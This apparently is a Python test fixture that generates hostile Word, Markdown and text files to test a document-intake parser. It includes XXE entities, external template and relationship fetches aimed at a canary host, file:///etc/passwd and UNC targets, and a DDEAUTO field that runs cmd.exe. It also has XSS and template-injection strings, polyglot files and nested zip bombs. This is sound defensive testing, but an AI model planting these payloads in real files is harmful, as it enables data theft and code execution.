"""Word and text files that nobody should open; those of the intake's own corpus and, here, what reaches out or runs."""

from tests.corpus.hostile.material import CANARY, File, File_of, zipped
from tests.corpus.intake import hostile as known
from tests.corpus.intake.hostile import W, document, paragraph, word

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def rels(*kinds_and_targets: tuple[str, str]) -> bytes:
    """Relationships that point outside."""
    lines = "".join(
        f'<Relationship Id="r{n}" Type="{R}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(kinds_and_targets)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{lines}</Relationships>'.encode()


def _with_rels(kind: str, target: str) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": known.TYPES.encode(),
            "_rels/.rels": rels(("officeDocument", "word/document.xml")).replace(b' TargetMode="External"', b""),
            "word/document.xml": document(paragraph("一段文字")),
            "word/_rels/document.xml.rels": rels((kind, target.format(kind=kind))),
            "word/_rels/settings.xml.rels": rels((kind, target.format(kind=kind))),
        }
    )


def field(code: str) -> bytes:
    """A field that Word would carry out."""
    return word(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>甲</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def xxe(declaration: str) -> bytes:
    """A document whose text is an entity from elsewhere."""
    return zipped(
        {
            "[Content_Types].xml": known.TYPES.encode(),
            "word/document.xml": f'<?xml version="1.0"?><!DOCTYPE w:document [{declaration}]><w:document xmlns:w="{W}"><w:body>'
            f"{paragraph('&a;')}</w:body></w:document>".encode(),
        }
    )


SCRIPTS = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}",
    "&lt;a href=&quot;javascript:alert(1)&quot;&gt;x&lt;/a&gt;",
    "\u202etxt.exe\u2066\u200b\ufeff",
    "=HYPERLINK(&quot;" + CANARY + "/cell&quot;)",
)
TABLE = f"<w:tbl>{''.join(f'<w:tr>{known.cell(one)}{known.cell(one)}</w:tr>' for one in SCRIPTS)}</w:tbl>"

OUTSIDE: dict[str, File_of] = {
    f"a document with {what} elsewhere": (lambda kind=kind: _with_rels(kind, f"{CANARY}/{{kind}}"))
    for what, kind in {
        "its template": "attachedTemplate", "a picture": "image", "a sub-document": "subDocument", "an object": "oleObject",
        "a frame": "frame", "a link": "hyperlink", "a font": "font", "an alternative part": "aFChunk", "a header": "header",
    }.items()
}  # fmt: skip
OTHERS: dict[str, File_of] = {
    "template on another computer": lambda: _with_rels("attachedTemplate", r"\\127.0.0.1@1\share\x.dotm"),
    "picture of the file system": lambda: _with_rels("image", "file:///etc/passwd"),
    "entity from the canary": lambda: xxe(f'<!ENTITY a SYSTEM "{CANARY}/entity">'),
    "entity by parameter": lambda: xxe(f'<!ENTITY % p SYSTEM "{CANARY}/parameter"> %p;<!ENTITY a "x">'),
    "definition from the canary": lambda: zipped(
        {
            "[Content_Types].xml": f'<!DOCTYPE Types SYSTEM "{CANARY}/dtd">{known.TYPES.split("?>")[1]}'.encode(),
            "word/document.xml": document(paragraph("x")),
        }
    ),
    "stylesheet instruction": lambda: word("", f'<?xml-stylesheet href="{CANARY}/xsl" type="text/xsl"?>'),
    "included part": lambda: word(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{CANARY}/include"/>{paragraph("x")}'),
    "schema from the canary": lambda: word(
        f'<w:p xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x {CANARY}/xsd"/>{paragraph("x")}'
    ),
    "field that starts a program": lambda: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
    "field that includes a text": lambda: field(f"INCLUDETEXT {CANARY}/include"),
    "field that includes a picture": lambda: field(f"INCLUDEPICTURE {CANARY}/picture"),
    "scripts as text": lambda: word("".join(paragraph(one) for one in SCRIPTS)),
    "scripts in a table": lambda: word(TABLE),
    "scripts as headings": lambda: word(
        "".join(
            f'<w:p><w:pPr><w:pStyle w:val="Heading1"/><w:outlineLvl w:val="0"/></w:pPr><w:r><w:t>{one}</w:t></w:r></w:p>' for one in SCRIPTS
        )
    ),
    "an embedded web page": lambda: word(paragraph("甲"), word__afchunk_xml=b"<html><script>alert(1)</script></html>"),
    "an embedded program": lambda: word(paragraph("甲"), word__embeddings__oleObject1_bin=b"MZ" + bytes(4000)),
    "a zip in a zip in a zip": lambda: zipped(
        {"[Content_Types].xml": known.TYPES.encode(), "word/document.xml": document(paragraph("x")), "word/media/a.zip": nested(6)}
    ),
    "a zip that holds itself again": lambda: zipped({"a.docx": nested(20)}),
    "a web page in front": lambda: b"<html><script>alert(1)</script></html>" + known.real(),
    "a pdf in front": lambda: b"%PDF-1.7\n1 0 obj<<>>endobj\n" + known.real(),
    "a picture in front": lambda: b"GIF89a" + known.real(),
    "a program behind": lambda: known.real() + b"MZ" + bytes(10_000),
    "control characters": lambda: word("<w:p><w:r><w:t>&#x1;</w:t></w:r></w:p>"),
    "a million attributes": lambda: word("<w:p " + " ".join(f'w:a{n}="1"' for n in range(100_000)) + "/>" + paragraph("x")),
    "one word of ten million letters": lambda: word(paragraph("字" * 3_000_000)),
    "a name of an element without end": lambda: word(f"<{'a' * 1_000_000}/>{paragraph('x')}"),
}
TEXTS: dict[str, File_of] = {
    "text of scripts": lambda: "\n".join(SCRIPTS).replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').encode(),
    "markdown of scripts": lambda: b"# <script>alert(1)</script>\n\n[x](javascript:alert(1)) ![x](" + CANARY.encode() + b"/md)\n",
    "text with zero bytes": lambda: b"a\0b\0\0c\n" * 50,
    "text of one line of nine megabytes": lambda: b"x" * 9_000_000,
    "text in two-byte letters without a mark": lambda: "目标：提升认知".encode("utf-16-le"),
    "text in an older chinese encoding": lambda: "目标：提升认知".encode("gb18030"),
    "text that is cut in a letter": lambda: "目标".encode()[:4],
    "text of direction marks": lambda: ("\u202e\u2066\u200b\u2069\u202c甲" * 2000).encode(),
    "text of piled accents": lambda: ("a" + "\u0301" * 5000).encode(),
    "text of halves of letters": lambda: b"\xed\xa0\x80\xed\xb0\x80" * 20,
    "text of patterns that take long": lambda: (b"a" * 50 + b"!") * 3000,
    "markdown nested a thousand deep": lambda: b">" * 5000 + b" x\n" + b"- " * 3000 + b"x\n",
    "markdown table of ten thousand columns": lambda: b"|" + b"a|" * 10_000 + b"\n|" + b"-|" * 10_000 + b"\n",
}


def nested(deep: int) -> bytes:
    """A zip in a zip in a zip."""
    inner = b"x"
    for _ in range(deep):
        inner = zipped({"inner.zip": inner})
    return inner


FILES: tuple[File, ...] = (
    *(File(f"word: {kind}", name, make) for kind, (name, make) in {**known.REFUSED, **known.READ}.items()),
    *(File(f"word: {kind}", "计划.docx", make) for kind, make in {**OUTSIDE, **OTHERS}.items()),
    *(File(f"text: {kind}", "计划.md" if kind.startswith("markdown") else "计划.txt", make) for kind, make in TEXTS.items()),
)
